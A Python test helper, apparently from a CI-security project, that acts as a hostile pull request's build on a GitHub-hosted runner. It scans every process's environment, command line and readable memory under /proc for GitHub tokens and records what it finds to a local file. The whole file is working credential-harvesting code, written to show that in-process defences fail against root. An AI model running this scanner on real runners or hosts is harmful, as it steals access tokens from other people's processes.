"""What a hostile pull request's build does on a GitHub-hosted runner to find
a token (tests/action/test_runner.py puts it in a pull request's build, run
with `sudo` as hosted runners allow): it reads every process it can see, the
environment (/proc/PID/environ), the command line and, where readable, the
memory (/proc/PID/mem, every readable mapping), and looks for GitHub tokens
(gh[pousr]_...). As root, no in-process defence stops it: not a scrubbed
environment, not PR_SET_DUMPABLE.

    steal.py OUT.json

OUT.json: {"uid", "processes": {pid: {"comm", "environ", "mem_bytes"}},
"found": {token: ["PID (comm) environ|cmdline|mem", ...]}}.
"""
import json
import os
import re
import sys

PATTERN = re.compile(rb"gh[pousr]_[A-Za-z0-9]{20,}")
REGION_MAX = 1 << 30


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


def memory(pid):
    """The bytes of every readable mapping of pid, one region at a time."""
    maps = read("/proc/%s/maps" % pid)
    if maps is None:
        return
    try:
        fd = os.open("/proc/%s/mem" % pid, os.O_RDONLY)
    except OSError:
        return
    try:
        for line in maps.decode("ascii", "replace").splitlines():
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > REGION_MAX:
                continue
            try:
                yield os.pread(fd, end - start, start)
            except OSError:
                continue  # [vvar] and the like
    finally:
        os.close(fd)


def main():
    out = {"uid": os.getuid(), "processes": {}, "found": {}}

    def note(data, where):
        for token in set(PATTERN.findall(data or b"")):
            out["found"].setdefault(token.decode(), []).append(where)

    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        comm = (read("/proc/%s/comm" % pid) or b"?").decode("utf-8", "replace").strip()
        environ = read("/proc/%s/environ" % pid)
        info = {"comm": comm, "environ": environ is not None, "mem_bytes": 0}
        label = "%s (%s)" % (pid, comm)
        note(environ, label + " environ")
        note(read("/proc/%s/cmdline" % pid), label + " cmdline")
        if int(pid) != os.getpid():  # its own memory holds what it found
            for region in memory(pid):
                info["mem_bytes"] += len(region)
                note(region, label + " mem")
        out["processes"][pid] = info
    for where in out["found"].values():
        where[:] = sorted(set(where))
    with open(sys.argv[1], "w") as f:
        json.dump(out, f, indent=1, sort_keys=True)


if __name__ == "__main__":
    main()
